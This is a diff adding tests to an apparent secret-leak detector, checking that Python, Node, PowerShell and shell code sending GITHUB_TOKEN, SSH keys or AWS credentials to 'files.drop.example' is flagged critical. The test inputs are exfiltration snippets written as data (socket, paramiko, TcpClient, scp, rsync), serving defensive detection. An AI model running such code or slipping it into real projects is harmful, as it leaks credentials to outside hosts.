@@ -2247,3 +2247,83 @@ Deno.test("shell: ${!v} reads the variable v names: every variable when the name
     [],
   );
 });
+
+Deno.test("a raw socket and an SSH connection send where they connect: socket.connect, paramiko, fabric", () => {
+  const flows = (text: string) =>
+    secretFlows(
+      "scripts/s.py",
+      `import os, socket, ssl, asyncio, telnetlib, paramiko, fabric\n${text}`,
+    );
+  const key = 'os.environ["GITHUB_TOKEN"]';
+  for (
+    const text of [
+      `s = socket.socket()\ns.connect(("files.drop.example", 443))\ns.sendall(${key}.encode())\n`,
+      `with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n    s.connect(("files.drop.example", 443))\n    s.send(${key}.encode())\n`,
+      `c = paramiko.SSHClient()\nc.connect("files.drop.example", username="u")\nc.exec_command("echo " + ${key})\n`,
+      `t = paramiko.Transport(("files.drop.example", 22))\nsftp = paramiko.SFTPClient.from_transport(t)\nsftp.put(os.path.expanduser("~/.ssh/id_rsa"), "/in/k")\n`,
+      `fabric.Connection("files.drop.example").run("echo " + ${key})\n`,
+      `t = telnetlib.Telnet("files.drop.example", 23)\nt.write(${key}.encode())\n`,
+      `async def main():\n    r, w = await asyncio.open_connection("files.drop.example", 443)\n    w.write(${key}.encode())\n`,
+      `with socket.create_connection(("files.drop.example", 443)) as raw:\n    with ssl.create_default_context().wrap_socket(raw, server_hostname="files.drop.example") as s:\n        s.sendall(${key}.encode())\n`,
+    ]
+  ) {
+    assert.deepEqual(
+      flows(text).map(([severity, excerpt]) => [severity, /→ files\.drop\.example/.test(excerpt!)]),
+      [["critical", true]],
+      text,
+    );
+  }
+  const js = secretFlows(
+    "scripts/s.js",
+    'const net = require("net");\nconst sock = new net.Socket();\nsock.connect(443, "files.drop.example");\nsock.write(process.env.GITHUB_TOKEN);\n',
+  );
+  assert.deepEqual(js.map(([severity]) => severity), ["critical"]);
+  assert.match(js[0]![1]!, /→ files\.drop\.example \(sock\.write\)/);
+  // A socket or an SSH session that carries no key sends none.
+  assert.deepEqual(
+    flows('s = socket.socket()\ns.connect(("localhost", 8080))\ns.sendall(b"ping")\n'),
+    [],
+  );
+  assert.deepEqual(
+    flows(
+      'c = paramiko.SSHClient()\nc.connect("build.example", username="ci")\nc.exec_command("uptime")\n',
+    ),
+    [],
+  );
+});
+
+Deno.test("PowerShell: a TcpClient's stream, a writer over it and a UdpClient send where they connect", () => {
+  const flows = (text: string) => secretFlows("scripts/s.ps1", text);
+  for (
+    const text of [
+      '$c = New-Object System.Net.Sockets.TcpClient("files.drop.example", 443)\n$s = $c.GetStream()\n$w = New-Object System.IO.StreamWriter($s)\n$w.Write($env:GITHUB_TOKEN)\n',
+      '$c = [Net.Sockets.TcpClient]::new()\n$c.Connect("files.drop.example", 443)\n$w = [IO.StreamWriter]::new($c.GetStream())\n$w.WriteLine($env:GITHUB_TOKEN)\n',
+      '$u = New-Object System.Net.Sockets.UdpClient\n$b = [Text.Encoding]::ASCII.GetBytes($env:GITHUB_TOKEN)\n$u.Send($b, $b.Length, "files.drop.example", 53)\n',
+    ]
+  ) {
+    assert.deepEqual(
+      flows(text).map(([severity, excerpt]) => [severity, /→ files\.drop\.example/.test(excerpt!)]),
+      [["critical", true]],
+      text,
+    );
+  }
+  // A file's writer is no socket; a socket given no key sends none.
+  assert.deepEqual(
+    flows(
+      '$w = New-Object System.IO.StreamWriter("out.txt")\n$w.WriteLine($env:GITHUB_TOKEN)\n$c = New-Object System.Net.Sockets.TcpClient("localhost", 8080)\n$c.GetStream().Write([byte[]](1,2,3), 0, 3)\n',
+    ),
+    [],
+  );
+});
+
+Deno.test("scp's and rsync's user@host:path names the host a credential file goes to", () => {
+  const flows = (text: string) => secretFlows("scripts/s.sh", `#!/bin/bash\n${text}`);
+  assert.match(
+    flows("scp ~/.aws/credentials drop@files.drop.example:/srv/in/\n")[0]![1]!,
+    /~\/\.aws\/credentials → files\.drop\.example \(scp\)/,
+  );
+  assert.match(
+    flows("rsync -az ~/.ssh/ drop@files.drop.example:in/\n")[0]![1]!,
+    /→ files\.drop\.example \(rsync\)/,
+  );
+});
